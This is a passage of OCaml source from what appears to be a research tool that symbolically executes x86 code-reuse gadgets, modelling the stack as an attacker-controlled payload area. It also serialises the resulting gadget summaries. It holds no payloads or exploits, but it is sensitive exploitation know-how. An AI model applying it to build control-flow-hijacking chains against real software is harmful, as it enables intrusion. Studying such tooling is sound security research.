    alias_hazard = head.alias_hazard || tail.alias_hazard;
    hazard_cmps =
      List.map (fun (x, y) -> (sigma x, sigma y)) tail.hazard_cmps
      @ head.hazard_cmps }
