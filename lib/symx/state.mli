(** Symbolic machine state for gadget summarization.

    Naming is deterministic and canonical (paper Table II / §IV-B):
    ["rax_0"], ... are register values at gadget entry; ["stk_<o>"] (or
    ["stk_m<o>"] for negative o) is the 8-byte stack slot at [rsp0 + o] —
    the attacker-controlled payload area; ["mem<n>"] are values read
    through non-stack pointers (adding a [Readable] POINTER
    pre-condition).  Two gadgets with the same behaviour therefore
    produce structurally equal terms. *)

open Gp_smt

module Imap : Map.S with type key = int

(** What the last flag-setting instruction was, for Jcc conditions. *)
type flag_src =
  | Fsub of Term.t * Term.t      (** cmp/sub a, b *)
  | Flogic of Term.t             (** and/or/xor/test/shift result: CF=OF=0 *)
  | Farith of Term.t             (** add/inc/dec result: only ZF/SF trusted *)
  | Funknown

type t = {
  regs : Term.t array;                   (** 16, indexed by [Reg.number] *)
  stack : Term.t Imap.t;                 (** offset from rsp0 -> value *)
  stack_writes : (int * Term.t) list;    (** in write order *)
  path : Formula.t list;                 (** accumulated pre-conditions *)
  flags : flag_src;
  fresh : int;                           (** counter for memory reads *)
  insns : Gp_x86.Insn.t list;            (** executed, reversed *)
  syscalls : (Gp_x86.Reg.t * Term.t) list list;
      (** register state at each syscall, newest first *)
  consumed : int list;                   (** stack offsets read before write *)
  ptr_writes : (Term.t * Term.t) list;   (** non-stack writes: (addr, value) *)
  mem_reads : (string * Term.t * bool) list;
      (** mem var, address term, RELIABLE flag — an unreliable read may
          alias an earlier write of this gadget, so its value cannot be
          treated as attacker-controlled *)
  alias_hazard : bool;                   (** some read was unreliable *)
  hazard_cmps : (Term.t * Term.t) list;
      (** (read addr, write addr) pairs whose aliasing was undecidable;
          {!Exec.extend} rechecks them after substitution — a pair the
          head makes decidable means the monolithic run would have
          forwarded or skipped where this one allocated a fresh read *)
}

val reg_var : Gp_x86.Reg.t -> Term.t
(** The entry-value variable of a register, e.g. [Var "rdi_0"]. *)

val slot_var : int -> Term.t
(** The payload-slot variable for a stack offset. *)

val slot_of_var : string -> int option
(** Offset encoded in a slot variable name, if it is one. *)

val initial : unit -> t
(** Fully symbolic state: every register at its entry variable. *)

val reg : t -> Gp_x86.Reg.t -> Term.t
val set_reg : t -> Gp_x86.Reg.t -> Term.t -> t

val assume : t -> Formula.t -> t
(** Add a pre-condition to the path. *)

val rsp_offset : t -> int option
(** Current rsp as a concrete offset from rsp0, when it is one. *)

type addr_class = Stack of int | Pointer of Term.t

val classify_addr : Term.t -> addr_class
(** Stack slot (rsp0-relative with concrete offset) or arbitrary
    pointer. *)

exception Unsupported of string

val read_mem : t -> Term.t -> t * Term.t
(** Read 8 bytes at a symbolic address.  Stack reads return (and
    memoize) the slot variable; pointer reads apply store-forwarding over
    earlier pointer writes (constant distance >= 8 proves disjointness;
    undecidable aliasing marks the read unreliable) and add a [Readable]
    pre-condition. *)

val write_mem : t -> Term.t -> Term.t -> t
(** Write 8 bytes: stack writes update the slot map; pointer writes are
    recorded in [ptr_writes] and add a [Writable] pre-condition. *)

val consumed_slots : t -> int list
(** Payload slots whose initial content this gadget reads, sorted. *)

(** {1 Suffix composition}

    Support for {!Exec.extend} (DESIGN.md §16): prepending the post-state
    of one decoded instruction onto an already-summarized suffix. *)

val compose_subst :
  head:t -> rsp_off:int -> Term.Vset.t * (string -> Term.t option)
(** Image of each tail-entry variable under the head post-state:
    registers map to head's final register terms, payload slots shift by
    [rsp_off] and read through head's slot map, fresh memory variables
    renumber past head's reads.  [None] means the variable is its own
    image.  Also returns the set of register entry variables with a
    non-identity image — with [rsp_off = 0], an empty slot map and no
    fresh reads in [head], a tail term mentioning none of them is its
    own image, so callers can skip the substitution outright. *)

val graft : head:t -> rsp_off:int -> sigma:(Term.t -> Term.t) -> t -> t
(** [graft ~head ~rsp_off ~sigma tail] rebuilds the state the monolithic
    executor would reach by running head's instruction and then the
    tail's path, given [sigma] — a memoized substitution over
    {!compose_subst}[ ~head ~rsp_off].  The caller is responsible for the
    guard conditions under which this equals monolithic execution. *)
