(* Symbolic execution of instruction runs -> gadget summaries.

   Starting from a fully symbolic state at an arbitrary code address, we
   execute until a controllable transfer (ret / indirect jump / indirect
   call / syscall).  Conditional jumps FORK the state, each branch
   assuming the condition (or its negation) as a pre-condition — this is
   the paper's distinctive handling of conditional-jump gadgets (§IV-B,
   Fig. 4).  Direct jumps and direct calls are followed and MERGED into
   the same gadget (§IV-B "Unconditional Direct Jump"). *)

open Gp_x86
open Gp_smt

type jump =
  | Jret of Term.t           (* ret: target is the popped stack value *)
  | Jind of Term.t           (* jmp/call through register or memory *)
  | Jfall of int64           (* gadget ends at a syscall; fall-through *)

type summary = {
  s_addr : int64;
  s_insns : Insn.t list;               (* in execution order *)
  s_state : State.t;                   (* final symbolic state *)
  s_jump : jump;
  s_has_cond : bool;                   (* took at least one Jcc assumption *)
  s_has_merge : bool;                  (* crossed at least one direct jmp/call *)
  s_syscall : bool;                    (* ends at a syscall *)
}

(* ----- condition -> formulas ----- *)

(* Conjunction of formulas equivalent to [cond] holding, or None when the
   flag source can't express it (the fork is then abandoned). *)
let cond_formulas (fl : State.flag_src) (c : Insn.cond) : Formula.t list option =
  let open Formula in
  let open Term in
  match fl with
  | State.Fsub (a, b) -> (
    match c with
    | Insn.E -> Some [ Eq (a, b) ]
    | Insn.NE -> Some [ Ne (a, b) ]
    | Insn.L -> Some [ Slt (a, b) ]
    | Insn.GE -> Some [ Sle (b, a) ]
    | Insn.LE -> Some [ Sle (a, b) ]
    | Insn.G -> Some [ Slt (b, a) ]
    | Insn.B -> Some [ Ult (a, b) ]
    | Insn.AE -> Some [ Ule (b, a) ]
    | Insn.BE -> Some [ Ule (a, b) ]
    | Insn.A -> Some [ Ult (b, a) ]
    | Insn.S -> Some [ Slt (sub a b, const 0L) ]
    | Insn.NS -> Some [ Sle (const 0L, sub a b) ]
    | Insn.O | Insn.NO | Insn.P | Insn.NP -> None)
  | State.Flogic r -> (
    (* CF = OF = 0 after logic ops *)
    match c with
    | Insn.E -> Some [ Eq (r, const 0L) ]
    | Insn.NE -> Some [ Ne (r, const 0L) ]
    | Insn.S | Insn.L -> Some [ Slt (r, const 0L) ]
    | Insn.NS | Insn.GE -> Some [ Sle (const 0L, r) ]
    | Insn.LE -> Some [ Sle (r, const 0L) ]
    | Insn.G -> Some [ Slt (const 0L, r) ]
    | Insn.B | Insn.O -> Some [ False ]
    | Insn.AE | Insn.NO -> Some []
    | Insn.BE -> Some [ Eq (r, const 0L) ]
    | Insn.A -> Some [ Ne (r, const 0L) ]
    | Insn.P | Insn.NP -> None)
  | State.Farith r -> (
    (* only ZF/SF are trustworthy without carry/overflow modeling *)
    match c with
    | Insn.E -> Some [ Eq (r, const 0L) ]
    | Insn.NE -> Some [ Ne (r, const 0L) ]
    | Insn.S -> Some [ Slt (r, const 0L) ]
    | Insn.NS -> Some [ Sle (const 0L, r) ]
    | _ -> None)
  | State.Funknown -> None

let negate_conds fs =
  (* ¬(f1 ∧ ... ∧ fn) is a disjunction; we only keep the single-formula
     case exact and otherwise refuse (returns None). *)
  match fs with
  | [] -> Some [ Formula.False ]
  | [ f ] -> Some [ Formula.negate f ]
  | _ -> None

(* ----- one instruction ----- *)

type step_result =
  | Continue of State.t
  | End of State.t * jump * bool        (* final state, jump, is_syscall *)
  | Direct of State.t * int             (* relative displacement to next *)
  | Cond of Insn.cond * int             (* fork: condition, displacement *)
  | SysStep of State.t                  (* syscall: gadget end AND continuation *)
  | Abort

let read_operand st (op : Insn.operand) : State.t * Term.t =
  match op with
  | Insn.Reg r -> (st, State.reg st r)
  | Insn.Imm i -> (st, Term.const i)
  | Insn.Mem m ->
    let addr =
      Term.add (State.reg st m.Insn.base) (Term.const (Int64.of_int m.Insn.disp))
    in
    State.read_mem st addr

let write_operand st (op : Insn.operand) v : State.t =
  match op with
  | Insn.Reg r -> State.set_reg st r v
  | Insn.Mem m ->
    let addr =
      Term.add (State.reg st m.Insn.base) (Term.const (Int64.of_int m.Insn.disp))
    in
    State.write_mem st addr v
  | Insn.Imm _ -> raise (State.Unsupported "write to immediate")

let alu mk flag st d s =
  let st, a = read_operand st d in
  let st, b = read_operand st s in
  let r = mk a b in
  let st = write_operand st d r in
  { st with State.flags = flag a b r }

let step st (insn : Insn.t) : step_result =
  let open Term in
  let st = { st with State.insns = insn :: st.State.insns } in
  match insn with
  | Insn.Nop -> Continue st
  | Insn.Mov (d, s) ->
    let st, v = read_operand st s in
    Continue (write_operand st d v)
  | Insn.Movabs (r, i) -> Continue (State.set_reg st r (const i))
  | Insn.Lea (r, m) ->
    let addr = add (State.reg st m.Insn.base) (const (Int64.of_int m.Insn.disp)) in
    Continue (State.set_reg st r addr)
  | Insn.Push r ->
    let v = State.reg st r in
    let rsp' = sub (State.reg st Reg.RSP) (const 8L) in
    let st = State.set_reg st Reg.RSP rsp' in
    Continue (State.write_mem st rsp' v)
  | Insn.PushImm i ->
    let rsp' = sub (State.reg st Reg.RSP) (const 8L) in
    let st = State.set_reg st Reg.RSP rsp' in
    Continue (State.write_mem st rsp' (const (Int64.of_int i)))
  | Insn.Pop r ->
    let rsp = State.reg st Reg.RSP in
    let st, v = State.read_mem st rsp in
    let st = State.set_reg st Reg.RSP (add rsp (const 8L)) in
    Continue (State.set_reg st r v)
  | Insn.Add (d, s) -> Continue (alu add (fun _ _ r -> State.Farith r) st d s)
  | Insn.Sub (d, s) -> Continue (alu sub (fun a b _ -> State.Fsub (a, b)) st d s)
  | Insn.And_ (d, s) -> Continue (alu logand (fun _ _ r -> State.Flogic r) st d s)
  | Insn.Or_ (d, s) -> Continue (alu logor (fun _ _ r -> State.Flogic r) st d s)
  | Insn.Xor (d, s) -> Continue (alu logxor (fun _ _ r -> State.Flogic r) st d s)
  | Insn.Cmp (d, s) ->
    let st, a = read_operand st d in
    let st, b = read_operand st s in
    Continue { st with State.flags = State.Fsub (a, b) }
  | Insn.Test (a, b) ->
    let va = State.reg st a and vb = State.reg st b in
    Continue { st with State.flags = State.Flogic (logand va vb) }
  | Insn.Imul (d, s) ->
    let r = mul (State.reg st d) (State.reg st s) in
    Continue { (State.set_reg st d r) with State.flags = State.Farith r }
  | Insn.Shl (r, n) ->
    let v = shl (State.reg st r) (const (Int64.of_int n)) in
    Continue { (State.set_reg st r v) with State.flags = State.Flogic v }
  | Insn.Shr (r, n) ->
    let v = shr (State.reg st r) (const (Int64.of_int n)) in
    Continue { (State.set_reg st r v) with State.flags = State.Flogic v }
  | Insn.Sar (r, n) ->
    let v = sar (State.reg st r) (const (Int64.of_int n)) in
    Continue { (State.set_reg st r v) with State.flags = State.Flogic v }
  | Insn.Inc r ->
    let v = add (State.reg st r) (const 1L) in
    Continue { (State.set_reg st r v) with State.flags = State.Farith v }
  | Insn.Dec r ->
    let v = sub (State.reg st r) (const 1L) in
    Continue { (State.set_reg st r v) with State.flags = State.Farith v }
  | Insn.Neg r ->
    let a = State.reg st r in
    let v = neg a in
    Continue { (State.set_reg st r v) with State.flags = State.Fsub (const 0L, a) }
  | Insn.Not_ r -> Continue (State.set_reg st r (lognot (State.reg st r)))
  | Insn.Xchg (a, b) ->
    let va = State.reg st a and vb = State.reg st b in
    Continue (State.set_reg (State.set_reg st a vb) b va)
  | Insn.Jmp rel -> Direct (st, rel)
  | Insn.JmpReg r -> End (st, Jind (State.reg st r), false)
  | Insn.JmpMem m ->
    let addr = add (State.reg st m.Insn.base) (const (Int64.of_int m.Insn.disp)) in
    let st, v = State.read_mem st addr in
    End (st, Jind v, false)
  | Insn.Jcc (c, rel) -> Cond (c, rel)
  | Insn.Call rel ->
    (* follow the call like a direct jump; the pushed return address is a
       symbolic-state stack write whose value is unknown statically only
       in position — we leave the slot holding an opaque marker *)
    let rsp' = sub (State.reg st Reg.RSP) (const 8L) in
    let st = State.set_reg st Reg.RSP rsp' in
    let st = State.write_mem st rsp' (Term.var "retaddr") in
    Direct (st, rel)
  | Insn.CallReg r ->
    let target = State.reg st r in
    let rsp' = sub (State.reg st Reg.RSP) (const 8L) in
    let st = State.set_reg st Reg.RSP rsp' in
    let st = State.write_mem st rsp' (Term.var "retaddr") in
    End (st, Jind target, false)
  | Insn.CallMem m ->
    let addr = add (State.reg st m.Insn.base) (const (Int64.of_int m.Insn.disp)) in
    let st, target = State.read_mem st addr in
    let rsp' = sub (State.reg st Reg.RSP) (const 8L) in
    let st = State.set_reg st Reg.RSP rsp' in
    let st = State.write_mem st rsp' (Term.var "retaddr") in
    End (st, Jind target, false)
  | Insn.Ret ->
    let rsp = State.reg st Reg.RSP in
    let st, v = State.read_mem st rsp in
    let st = State.set_reg st Reg.RSP (add rsp (const 8L)) in
    End (st, Jret v, false)
  | Insn.RetImm n ->
    let rsp = State.reg st Reg.RSP in
    let st, v = State.read_mem st rsp in
    let st = State.set_reg st Reg.RSP (add rsp (const (Int64.of_int (8 + n)))) in
    End (st, Jret v, false)
  | Insn.Leave ->
    let rbp = State.reg st Reg.RBP in
    let st = State.set_reg st Reg.RSP rbp in
    let st, v = State.read_mem st rbp in
    let st = State.set_reg st Reg.RBP v in
    Continue (State.set_reg st Reg.RSP (add rbp (const 8L)))
  | Insn.Syscall ->
    let regstate =
      List.map (fun r -> (r, State.reg st r)) [ Reg.RAX; Reg.RDI; Reg.RSI; Reg.RDX ]
    in
    let st = { st with State.syscalls = regstate :: st.State.syscalls } in
    SysStep st
  | Insn.Int3 | Insn.Hlt -> Abort

(* ----- driver ----- *)

type config = {
  max_insns : int;       (* per path *)
  max_forks : int;       (* Jcc assumptions per path *)
  max_merges : int;      (* direct jmp/call follow-throughs per path *)
}

let default_config = { max_insns = 16; max_forks = 2; max_merges = 2 }

(* Summarize all paths from [addr], also reporting whether the executor
   refused a path ([State.Unsupported]).  Partial results gathered before
   the refusal are kept — the refusal is a per-start quarantine signal,
   not a loss of the whole harvest. *)
let summarize_r ?(config = default_config) ?decode (image : Gp_util.Image.t)
    (addr : int64) : summary list * string option =
  let decode =
    match decode with
    | Some f -> f
    | None -> fun pos -> Decode.decode image.Gp_util.Image.code pos
  in
  let results = ref [] in
  let base = image.Gp_util.Image.code_base in
  let rec go st cur ninsns nforks nmerges has_cond has_merge =
    if ninsns <= config.max_insns && Gp_util.Image.in_code image cur then begin
      let pos = Int64.to_int (Int64.sub cur base) in
      match decode pos with
      | None -> ()
      | Some (insn, len) -> (
        let next = Int64.add cur (Int64.of_int len) in
        match step st insn with
        | Abort -> ()
        | Continue st -> go st next (ninsns + 1) nforks nmerges has_cond has_merge
        | End (st, j, is_syscall) ->
          let j = if is_syscall then Jfall next else j in
          results :=
            { s_addr = addr;
              s_insns = List.rev st.State.insns;
              s_state = st;
              s_jump = j;
              s_has_cond = has_cond;
              s_has_merge = has_merge;
              s_syscall = is_syscall }
            :: !results
        | SysStep st ->
          (* the run ending here is a syscall gadget... *)
          results :=
            { s_addr = addr;
              s_insns = List.rev st.State.insns;
              s_state = st;
              s_jump = Jfall next;
              s_has_cond = has_cond;
              s_has_merge = has_merge;
              s_syscall = true }
            :: !results;
          (* ...and execution also continues past it (the syscall's return
             value is an uncontrollable fresh unknown) *)
          let ret = Term.var (Printf.sprintf "sysret%d" st.State.fresh) in
          let st' =
            State.set_reg
              { st with State.fresh = st.State.fresh + 1 }
              Reg.RAX ret
          in
          go st' next (ninsns + 1) nforks nmerges has_cond has_merge
        | Direct (st, rel) ->
          if nmerges < config.max_merges then
            go st
              (Int64.add next (Int64.of_int rel))
              (ninsns + 1) nforks (nmerges + 1) has_cond true
        | Cond (c, rel) ->
          if nforks < config.max_forks then begin
            (match cond_formulas st.State.flags c with
             | Some fs ->
               let st_t =
                 List.fold_left State.assume
                   { st with State.insns = Insn.Jcc (c, rel) :: st.State.insns }
                   fs
               in
               if not (List.mem Formula.False st_t.State.path) then
                 go st_t
                   (Int64.add next (Int64.of_int rel))
                   (ninsns + 1) (nforks + 1) (nmerges + 1) true true
             | None -> ());
            match
              Option.bind (cond_formulas st.State.flags c) negate_conds
            with
            | Some fs ->
              let st_f =
                List.fold_left State.assume
                  { st with State.insns = Insn.Jcc (c, rel) :: st.State.insns }
                  fs
              in
              if not (List.mem Formula.False st_f.State.path) then
                go st_f next (ninsns + 1) (nforks + 1) nmerges true has_merge
            | None -> ()
          end)
    end
  in
  let refused =
    try
      go (State.initial ()) addr 0 0 0 false false;
      None
    with State.Unsupported why -> Some why
  in
  (!results, refused)

let summarize ?config image addr = fst (summarize_r ?config image addr)

(* ----- summary (de)serialization (DESIGN.md §11) -----

   Hand-rolled on Store.Bin/Term.Ser rather than Marshal (whose bytes
   depend on sharing, which hash-consing makes history-dependent) or an
   Encode/Decode byte round-trip (which need not be the identity on the
   AST — e.g. [RetImm 0] vs [Ret]).  Summaries are stored BASE-RELATIVE:
   [s_addr] is rewritten to 0 and the only other absolute field, a
   [Jfall] target, to its distance from [s_addr]; every term is already
   position-independent (the executor's variable naming is a function of
   the byte string alone), so {!rebase} can relocate a stored summary to
   any address.  [st.insns] is always [List.rev s_insns] at a terminal
   state, so it is not written twice. *)

module Bin = Gp_util.Store.Bin

let put_reg b r = Bin.u8 b (Reg.number r)

let get_reg s pos =
  match Reg.of_number (Bin.gu8 s pos) with
  | r -> r
  | exception Invalid_argument _ -> raise Bin.Truncated

let put_mem b (m : Insn.mem) =
  put_reg b m.Insn.base;
  Bin.int_ b m.Insn.disp

let get_mem s pos =
  let base = get_reg s pos in
  let disp = Bin.gint s pos in
  { Insn.base; disp }

let put_operand b = function
  | Insn.Reg r -> Bin.u8 b 0; put_reg b r
  | Insn.Imm i -> Bin.u8 b 1; Bin.i64 b i
  | Insn.Mem m -> Bin.u8 b 2; put_mem b m

let get_operand s pos =
  match Bin.gu8 s pos with
  | 0 -> Insn.Reg (get_reg s pos)
  | 1 -> Insn.Imm (Bin.gi64 s pos)
  | 2 -> Insn.Mem (get_mem s pos)
  | _ -> raise Bin.Truncated

let put_insn b (insn : Insn.t) =
  let t n = Bin.u8 b n in
  let opop n d s = t n; put_operand b d; put_operand b s in
  let r1 n r = t n; put_reg b r in
  let rr n a b' = t n; put_reg b a; put_reg b b' in
  let rn n r k = t n; put_reg b r; Bin.int_ b k in
  match insn with
  | Insn.Mov (d, s) -> opop 0 d s
  | Insn.Movabs (r, i) -> t 1; put_reg b r; Bin.i64 b i
  | Insn.Lea (r, m) -> t 2; put_reg b r; put_mem b m
  | Insn.Push r -> r1 3 r
  | Insn.PushImm i -> t 4; Bin.int_ b i
  | Insn.Pop r -> r1 5 r
  | Insn.Add (d, s) -> opop 6 d s
  | Insn.Sub (d, s) -> opop 7 d s
  | Insn.And_ (d, s) -> opop 8 d s
  | Insn.Or_ (d, s) -> opop 9 d s
  | Insn.Xor (d, s) -> opop 10 d s
  | Insn.Cmp (d, s) -> opop 11 d s
  | Insn.Test (a, b') -> rr 12 a b'
  | Insn.Imul (a, b') -> rr 13 a b'
  | Insn.Shl (r, n) -> rn 14 r n
  | Insn.Shr (r, n) -> rn 15 r n
  | Insn.Sar (r, n) -> rn 16 r n
  | Insn.Inc r -> r1 17 r
  | Insn.Dec r -> r1 18 r
  | Insn.Neg r -> r1 19 r
  | Insn.Not_ r -> r1 20 r
  | Insn.Xchg (a, b') -> rr 21 a b'
  | Insn.Jmp rel -> t 22; Bin.int_ b rel
  | Insn.JmpReg r -> r1 23 r
  | Insn.JmpMem m -> t 24; put_mem b m
  | Insn.Jcc (c, rel) -> t 25; Bin.u8 b (Insn.cond_number c); Bin.int_ b rel
  | Insn.Call rel -> t 26; Bin.int_ b rel
  | Insn.CallReg r -> r1 27 r
  | Insn.CallMem m -> t 28; put_mem b m
  | Insn.Ret -> t 29
  | Insn.RetImm n -> t 30; Bin.int_ b n
  | Insn.Leave -> t 31
  | Insn.Syscall -> t 32
  | Insn.Nop -> t 33
  | Insn.Int3 -> t 34
  | Insn.Hlt -> t 35

let get_insn s pos =
  let rr mk = let a = get_reg s pos in let b = get_reg s pos in mk a b in
  let opop mk = let d = get_operand s pos in let s' = get_operand s pos in mk d s' in
  let rn mk = let r = get_reg s pos in let n = Bin.gint s pos in mk r n in
  match Bin.gu8 s pos with
  | 0 -> opop (fun d s -> Insn.Mov (d, s))
  | 1 -> let r = get_reg s pos in Insn.Movabs (r, Bin.gi64 s pos)
  | 2 -> let r = get_reg s pos in Insn.Lea (r, get_mem s pos)
  | 3 -> Insn.Push (get_reg s pos)
  | 4 -> Insn.PushImm (Bin.gint s pos)
  | 5 -> Insn.Pop (get_reg s pos)
  | 6 -> opop (fun d s -> Insn.Add (d, s))
  | 7 -> opop (fun d s -> Insn.Sub (d, s))
  | 8 -> opop (fun d s -> Insn.And_ (d, s))
  | 9 -> opop (fun d s -> Insn.Or_ (d, s))
  | 10 -> opop (fun d s -> Insn.Xor (d, s))
  | 11 -> opop (fun d s -> Insn.Cmp (d, s))
  | 12 -> rr (fun a b -> Insn.Test (a, b))
  | 13 -> rr (fun a b -> Insn.Imul (a, b))
  | 14 -> rn (fun r n -> Insn.Shl (r, n))
  | 15 -> rn (fun r n -> Insn.Shr (r, n))
  | 16 -> rn (fun r n -> Insn.Sar (r, n))
  | 17 -> Insn.Inc (get_reg s pos)
  | 18 -> Insn.Dec (get_reg s pos)
  | 19 -> Insn.Neg (get_reg s pos)
  | 20 -> Insn.Not_ (get_reg s pos)
  | 21 -> rr (fun a b -> Insn.Xchg (a, b))
  | 22 -> Insn.Jmp (Bin.gint s pos)
  | 23 -> Insn.JmpReg (get_reg s pos)
  | 24 -> Insn.JmpMem (get_mem s pos)
  | 25 ->
    let c = Bin.gu8 s pos in
    if c > 15 then raise Bin.Truncated;
    Insn.Jcc (Insn.cond_of_number c, Bin.gint s pos)
  | 26 -> Insn.Call (Bin.gint s pos)
  | 27 -> Insn.CallReg (get_reg s pos)
  | 28 -> Insn.CallMem (get_mem s pos)
  | 29 -> Insn.Ret
  | 30 -> Insn.RetImm (Bin.gint s pos)
  | 31 -> Insn.Leave
  | 32 -> Insn.Syscall
  | 33 -> Insn.Nop
  | 34 -> Insn.Int3
  | 35 -> Insn.Hlt
  | _ -> raise Bin.Truncated

let put_listf b put xs =
  Bin.int_ b (List.length xs);
  List.iter (put b) xs

let get_listf s pos get =
  let n = Bin.gint s pos in
  if n < 0 then raise Bin.Truncated;
  List.init n (fun _ -> get s pos)

let put_flags w b = function
  | State.Fsub (x, y) -> Bin.u8 b 0; Term.Ser.put w b x; Term.Ser.put w b y
  | State.Flogic x -> Bin.u8 b 1; Term.Ser.put w b x
  | State.Farith x -> Bin.u8 b 2; Term.Ser.put w b x
  | State.Funknown -> Bin.u8 b 3

let get_flags r s pos =
  match Bin.gu8 s pos with
  | 0 ->
    let x = Term.Ser.get r s pos in
    let y = Term.Ser.get r s pos in
    State.Fsub (x, y)
  | 1 -> State.Flogic (Term.Ser.get r s pos)
  | 2 -> State.Farith (Term.Ser.get r s pos)
  | 3 -> State.Funknown
  | _ -> raise Bin.Truncated

let put_state w b (st : State.t) =
  let term t = Term.Ser.put w b t in
  let off_term (o, t) = Bin.int_ b o; term t in
  Array.iter term st.State.regs;
  put_listf b (fun _ -> off_term) (State.Imap.bindings st.State.stack);
  put_listf b (fun _ -> off_term) st.State.stack_writes;
  Formula.put_list w b st.State.path;
  put_flags w b st.State.flags;
  Bin.int_ b st.State.fresh;
  put_listf b
    (fun _ regs ->
      put_listf b (fun _ (rg, t) -> put_reg b rg; term t) regs)
    st.State.syscalls;
  put_listf b (fun _ o -> Bin.int_ b o) st.State.consumed;
  put_listf b (fun _ (a, v) -> term a; term v) st.State.ptr_writes;
  put_listf b
    (fun _ (name, a, reliable) ->
      Bin.str b name; term a; Bin.bool_ b reliable)
    st.State.mem_reads;
  Bin.bool_ b st.State.alias_hazard;
  put_listf b (fun _ (x, y) -> term x; term y) st.State.hazard_cmps

let get_state r s pos ~insns : State.t =
  let term () = Term.Ser.get r s pos in
  let off_term () =
    let o = Bin.gint s pos in
    (o, term ())
  in
  let regs = Array.init 16 (fun _ -> term ()) in
  let stack =
    List.fold_left
      (fun m (o, t) -> State.Imap.add o t m)
      State.Imap.empty
      (get_listf s pos (fun _ _ -> off_term ()))
  in
  let stack_writes = get_listf s pos (fun _ _ -> off_term ()) in
  let path = Formula.get_list r s pos in
  let flags = get_flags r s pos in
  let fresh = Bin.gint s pos in
  let syscalls =
    get_listf s pos (fun _ _ ->
        get_listf s pos (fun _ _ ->
            let rg = get_reg s pos in
            (rg, term ())))
  in
  let consumed = get_listf s pos (fun s pos -> Bin.gint s pos) in
  let ptr_writes =
    get_listf s pos (fun _ _ ->
        let a = term () in
        let v = term () in
        (a, v))
  in
  let mem_reads =
    get_listf s pos (fun _ _ ->
        let name = Bin.gstr s pos in
        let a = term () in
        let reliable = Bin.gbool s pos in
        (name, a, reliable))
  in
  let alias_hazard = Bin.gbool s pos in
  let hazard_cmps =
    get_listf s pos (fun _ _ ->
        let x = term () in
        let y = term () in
        (x, y))
  in
  { State.regs; stack; stack_writes; path; flags; fresh; insns; syscalls;
    consumed; ptr_writes; mem_reads; alias_hazard; hazard_cmps }

let put_summary w b (s : summary) =
  put_listf b put_insn s.s_insns;
  put_state w b s.s_state;
  (match s.s_jump with
  | Jret t -> Bin.u8 b 0; Term.Ser.put w b t
  | Jind t -> Bin.u8 b 1; Term.Ser.put w b t
  | Jfall a -> Bin.u8 b 2; Bin.i64 b (Int64.sub a s.s_addr));
  Bin.bool_ b s.s_has_cond;
  Bin.bool_ b s.s_has_merge;
  Bin.bool_ b s.s_syscall

let get_summary r s pos : summary =
  let s_insns = get_listf s pos get_insn in
  let s_state = get_state r s pos ~insns:(List.rev s_insns) in
  let s_jump =
    match Bin.gu8 s pos with
    | 0 -> Jret (Term.Ser.get r s pos)
    | 1 -> Jind (Term.Ser.get r s pos)
    | 2 -> Jfall (Bin.gi64 s pos)
    | _ -> raise Bin.Truncated
  in
  let s_has_cond = Bin.gbool s pos in
  let s_has_merge = Bin.gbool s pos in
  let s_syscall = Bin.gbool s pos in
  { s_addr = 0L; s_insns; s_state; s_jump; s_has_cond; s_has_merge; s_syscall }

let write_summaries ((ss : summary list), (refused : string option)) : string =
  let w = Term.Ser.writer () in
  let b = Buffer.create 512 in
  put_listf b (fun b' s -> put_summary w b' s) ss;
  (match refused with
  | None -> Bin.u8 b 0
  | Some why -> Bin.u8 b 1; Bin.str b why);
  Buffer.contents b

let read_summaries (s : string) : summary list * string option =
  let r = Term.Ser.reader () in
  let pos = ref 0 in
  let ss = get_listf s pos (fun s pos -> ignore pos; get_summary r s pos) in
  let refused =
    match Bin.gu8 s pos with
    | 0 -> None
    | 1 -> Some (Bin.gstr s pos)
    | _ -> raise Bin.Truncated
  in
  if !pos <> String.length s then raise Bin.Truncated;
  (ss, refused)

(* Relocate a summary: addresses are the ONLY position-dependent fields
   (deterministic variable naming makes every term a function of the
   byte string alone), so moving a summary is two field updates. *)
let rebase ~addr (s : summary) : summary =
  let delta = Int64.sub addr s.s_addr in
  if delta = 0L then s
  else
    { s with
      s_addr = addr;
      s_jump =
        (match s.s_jump with
        | Jfall a -> Jfall (Int64.add a delta)
        | (Jret _ | Jind _) as j -> j) }

(* ----- suffix-compositional summarization (DESIGN.md §16) -----

   Sliding-window harvests summarize every byte position, so the run
   starting at [p] shares all but its first instruction with the run
   starting at [p + len].  Instead of re-executing the shared tail, we
   summarize each position's suffix ONCE — at the harvest's full budget,
   the CANONICAL entry — and PREPEND one instruction's transfer function
   by term substitution ({!extend}): the head's post-state is
   substituted for the tail's initial-state variables.

   The budget gates make canonical entries exact at every smaller
   budget: each gate is a prefix check of a counter that is monotone
   along the path, so a path is explored under residual budget [b] iff
   its total demand is <= b per dimension — recorded per summary as a
   consumption triple.  Extending therefore takes the full-budget tail,
   shifts each summary's demand by the head's contribution, and drops
   the summaries whose demand exceeds the cap: exactly the paths the
   monolithic run would have gated one instruction earlier.  (The merge
   demand is the max gate demand over direct-jump sites, NOT the final
   counter: taken conditional arms bump the merge counter ungated.)

   Guarded cases where substitution could diverge from monolithic
   execution (symbolic rsp, non-linear images, aliasing hazards,
   flag-dependent tails under a flag-setting head) fall back to an
   instrumented monolithic run, so the composed result is BIT-IDENTICAL
   to {!summarize_r} at every position and budget. *)

let compose_on = ref true
let compose_enabled () = !compose_on
let set_compose_enabled b = compose_on := b

(* Variable footprint of a suffix: which tail-entry variables its
   summaries mention anywhere the substitution would look.  When the
   head's substitution domain cannot touch the footprint, sigma is the
   identity on every tail term, so {!extend} can skip both the term
   traversal and the memory-class / hazard rechecks (identity images
   cannot flip a classification).  Computed lazily with a node budget
   and propagated across extends; [Tbig] pins the guarded slow path. *)
type touch =
  | Tunknown                          (* not scanned yet *)
  | Tbig                              (* scan exceeded its node budget *)
  | Tok of Term.Vset.t * bool * bool  (* entry regs, any stk_*, any
                                         mem*/sysret* *)

type suffix = {
  x_res : (summary * (int * int * int)) list;
      (* summaries in summarize_r's emission order, each with its
         path's budget demand (insns, forks, merges): the summary is
         emitted under a residual budget iff demand <= budget
         pointwise *)
  x_refused : string option;
  x_entry_cond : bool;           (* hit a live Jcc while flags were still
                                    the ENTRY flags (Funknown) *)
  x_cap : int * int * int;       (* the (full) budget this canonical
                                    entry was explored at *)
  mutable x_touch : touch;       (* cached variable footprint; never
                                    serialized *)
}

exception Touch_big

(* Accumulate [st]'s variable footprint into the three refs, spending
   [fuel] per visited term node.  Covers exactly the terms [graft] and
   the extend guards apply sigma to — EXCEPT that a term which is a bare
   variable does not count: substitution replaces it by direct lookup
   without entering any term, so bare occurrences never force the slow
   path (a tail's untouched register array is 16 bare entry variables —
